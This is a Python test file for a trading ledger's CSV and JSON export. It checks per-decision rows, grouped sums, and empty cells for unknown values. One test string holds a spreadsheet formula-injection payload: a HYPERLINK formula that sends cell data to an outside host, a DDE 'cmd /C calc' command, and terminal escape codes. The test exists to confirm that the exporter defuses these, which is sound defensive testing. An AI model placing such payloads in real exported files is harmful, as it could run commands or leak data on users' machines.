"""The ledger as tables: one row per decision, one per sum; what is not known is an empty cell, no text is a formula."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import msgspec

from desk.ledger_report import groups_table, ledger_table
from desk.tables import csv_text, json_text
from engine.clock import HOUR, MINUTE
from engine.journal.ledger import groups
from engine.model import DecisionKind, Side
from engine.model.ledger import Ledger, LedgerRow, Mark
from tests.desk.made_up import NOW

MARKS = (
    Mark("5m", NOW + 5 * MINUTE, Decimal(101), NOW, Decimal("-99.50"), Decimal("-10.00"), Decimal("10.00")),
    Mark("1h", NOW + HOUR, Decimal(101), NOW, Decimal("12.34"), None, None, "nothing could be sized"),
    Mark("close", NOW + 5 * HOUR, why="not yet"),
)
HOSTILE = "=HYPERLINK(\"http://x/?\"&A1)\n+cmd|' /C calc'!A0\t@SUM(1)\x1b]0;x\x07"
ROW = LedgerRow(
    7, NOW, "TSLA", Side.BUY, "shift", DecisionKind.REJECTED, "person", HOSTILE, ("R17",), "t-1", "s-1", 0.8, None,
    Decimal(26), Decimal("191.3"), marks=MARKS,
)  # fmt: skip


def test_a_hostile_reason_is_one_cell_that_no_spreadsheet_calculates() -> None:
    (line,) = csv.DictReader(io.StringIO(csv_text(ledger_table(Ledger((ROW,), (), NOW)))))
    assert line["reason"].startswith("'=HYPERLINK")
    assert not set(line["reason"]) & {"\n", "\t", "\x1b", "\x07"}
    assert (line["5m_bps"], line["1h_worth"], line["close_price"], line["change"]) == ("-99.50", "", "", "")
    assert line["close_why"] == "not yet"


def test_the_sums_are_exported_with_what_they_count() -> None:
    marks = (msgspec.structs.replace(MARKS[1], horizon="5m"), Mark("1h", NOW, why="not yet"), MARKS[2])
    other = msgspec.structs.replace(ROW, seq=8, symbol="NVDA", marks=marks)
    table = groups_table(groups((ROW, other)))
    rows = {(row["by"], row["name"]): row for row in json.loads(json_text(table))}
    every = rows["all", "all"]
    assert (every["decisions"], every["5m_measured"], every["5m_right"], every["5m_known"]) == (2, 2, 1, 1)
    assert (every["5m_mean_bps"], every["5m_worth"], every["close_worth"]) == ("-43.58", "10.00", None)
    assert rows["symbol", "NVDA"]["5m_worth"] is None
    assert rows["rule", "R17"]["decisions"] == 2
